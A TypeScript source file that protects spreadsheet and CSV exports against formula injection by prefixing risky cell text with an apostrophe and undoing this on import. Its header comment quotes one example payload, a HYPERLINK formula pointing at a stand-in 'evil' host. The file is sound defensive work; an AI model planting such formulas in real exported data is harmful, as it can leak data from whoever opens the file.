/**
 * Text that a spreadsheet would read as a formula, made harmless for .xlsx and .csv exports (issue 18, "formula
 * injection" in OWASP's words): a cell whose text starts with = + - @, a tab or a carriage return is a formula to
 * Excel and LibreOffice when the text is typed, pasted or opened from a CSV, so a name like
 * `=HYPERLINK("http://evil","x")` could run or send data away. Such text gets a leading apostrophe, the marker Excel
 * itself uses for "this is text": the cell shows `'=HYPERLINK(…)` and stays text even when someone edits it.
 *
 * A line feed counts too: an .xlsx file keeps no carriage return (XML reads CR as LF), so a text that started with CR
 * comes back starting with LF, and only by marking LF as well does the marker come off again on import.
 *
 * The marking is undone exactly by `restoreCellText`, which every importer of Tupu's own workbooks applies, so that an
 * export imported again gives back the text as it was. Text that already starts with apostrophes before one of these
 * characters gets one more, so that `'=x` (not a formula) and `=x` (one) stay different through the round trip;
 * any other text, including one that starts with an apostrophe before anything else, is left as it is.
 */

/** The marker put in front of text a spreadsheet would read as a formula. */
export const FORMULA_MARKER = "'";

/** Apostrophes (any number, none included) followed by a character that starts a formula. */
const READ_AS_FORMULA = /^'*[=+\-@\t\r\n]/;

/** True when a spreadsheet would read `text` as a formula, or it is such a text already marked (so it gets one more). */
export function needsFormulaMarker(text: string): boolean {
  return READ_AS_FORMULA.test(text);
}

/** `text` as it is safe to write into a spreadsheet cell or a CSV field: with FORMULA_MARKER in front when needed. */
export function neutraliseCellText(text: string): string {
  return needsFormulaMarker(text) ? FORMULA_MARKER + text : text;
}

/** The text `neutraliseCellText` was given, from what it returned (for importers); any other text is left as it is. */
export function restoreCellText(text: string): string {
  return text.startsWith(FORMULA_MARKER) && needsFormulaMarker(text.slice(FORMULA_MARKER.length))
    ? text.slice(FORMULA_MARKER.length)
    : text;
}
